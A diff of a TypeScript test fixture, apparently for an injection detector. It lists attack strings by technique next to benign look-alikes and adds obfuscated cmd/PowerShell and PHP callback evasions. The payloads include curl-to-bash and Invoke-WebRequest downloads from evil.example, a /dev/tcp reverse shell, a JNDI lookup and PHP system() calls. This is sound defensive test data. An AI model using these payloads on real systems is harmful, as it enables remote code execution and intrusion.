@@ -13,13 +13,13 @@ const ATTACKS: Record<string, string[]> = {
   'prefix commands and interpreters': ['nohup who', 'strace id', 'sudo -u www-data id', 'echo "id" | tr x o | sh #', 'curl -s evil.example/x | bash', '$SHELL -c "id"', '${BASH} -i'],
   'brace expansion': ['{,ifconfig}', '{,ifconfig,eth0}', '{l,-lh}s', 'c{a,oun}t /etc/hostname', '{,ip,a}', '{,$"whoami",}'],
   'reverse shells and redirection': ['d=/dev;(sh)0>$d/tcp/203.0.113.9/777', '>/tmp/payload', '>> /etc/cron.d/job'],
-  'Windows cmd and PowerShell': ['IF red==red echo test', 'if (1) equ (1) echo hey', 'if [AA] == [AA] echo same', 'if not "A%1" == "A" (', ';iwmi -class Win32_process -name Create -ArgumentList cmd', 'Invoke-WebRequest -Uri http://evil.example/a.ps1', 'bcdboot /r file.txt', 'FOR %_ IN (a,b,c) DO cmd', 'set /p x=</tmp/x'],
+  'Windows cmd and PowerShell': ['c^m^d /c who^ami', '& p^owershell -enc SQBFAFgA','IF red==red echo test', 'if (1) equ (1) echo hey', 'if [AA] == [AA] echo same', 'if not "A%1" == "A" (', ';iwmi -class Win32_process -name Create -ArgumentList cmd', 'Invoke-WebRequest -Uri http://evil.example/a.ps1', 'bcdboot /r file.txt', 'FOR %_ IN (a,b,c) DO cmd', 'set /p x=</tmp/x'],
   'more binaries': [';htop', '&aptitude', 'zstdcat /var/log/app.zst', 'bsdtar -xf /tmp/x.tar', 'lwp-download http://evil.example/x'],
   'mail protocol commands': ['\r\nMAIL FROM:<a@b.example>', '\nRCPT TO:<postmaster@b.example>', '\nEHLO evil.example', '\r\na001 EXAMINE INBOX', '\r\nA283 SEARCH TEXT "x"', '\r\nd store 2 +FLAGS (\\Deleted)', '\nRETR 123', '\nAPOP user 7d0a3bd8e5b2abcfb3e256633c23b891'],
   'PHP calls and evasions': [
     'system(whoami)', 'exec #comment\n (blah)', 'touch/*a\nb*/()', 'checkdate/*x*/()', 'FOOgzinflate()', 'curl_init()', '"system"(ls);', '(system)(ls);',
     "define('x', 'sys' . 'tem');(x)/* c */('uname');", "(z)[0][0]('uname');", '$__[$_[1]](7)', '$_aB_4c[@5]/*wat*/[@d] ()', '$ {@_.__}(31);', '$a //x\n()',
-    '[php]echo "test"', '(sy.(st).em)(@id)', "('pa'.'ss'.'thru')('id')", '{php}test{/php}', 'ssh2.sftp://user:pass@example.com:22/x',
+    '[php]echo "test"', '(sy.(st).em)(@id)', "array_map('system',array('id'))", "usort($a, 'assert')", '<?xml :fputCSV($f, array("a"));', "('pa'.'ss'.'thru')('id')", '{php}test{/php}', 'ssh2.sftp://user:pass@example.com:22/x',
   ],
   'Java': ['java.Runtime', 'java.evil.ProcessBuilder', 'rO0ABXNy', 'AKztAAVzcg==', 'AACs7QAFc3I=', '${jndi:ldap&#00000000000000000000000058;//evil.example/a}'],
   'Node, Ruby and Perl': ['while(Infinity);', 'while(this)', 'while(new Date);', 'while(!NaN)', 'process[mainModule', 'Process.spawn("id")', 'IO.popen("id")', "@{[system 'id']}", '{"x":"$7:Module:prototype:_compile"}'],
@@ -59,7 +59,7 @@ const BENIGN: string[] = [
   'java.util.List is an interface', 'Runtime error in java.lang.RuntimeException', 'while we wait', 'while (i < 10) i++', 'process the refund',
   'localhost is fine for dev', '> /tmp is full, please clean it', 'name__icontains', 'https://example.com/help', 'jar of cookies: 3',
   '../guide/setup.md', 'Routes like /api/*/users are matched first', 'How do I find files older than 7 days and delete them with -exec rm in a cron job?', '/api/v1/users/../users/42', 'Use ${PORT:-3000}', 'Total: ${total}', 'JSONPath $[0].name or $[-1:] or $[*].id', 'price=5;$price total',
-  'myfunction(){ echo hello }', 'render() { return this.html }', '(Mr.Smith)(2)', '(e.g.)(see below)',
+  'myfunction(){ echo hello }', 'render() { return this.html }', '(Mr.Smith)(2)', '(e.g.)(see below)', 'x^2 + y^2 /c', "array_map('strtoupper', $names)", "t('system', 'dark')", '<?xml-stylesheet href="a.xsl"?>',
   'Saved photo.jpg. Then I uploaded notes.txt, report.pdf. Can you check?', 'The {php} tag is deprecated',
 ];
 
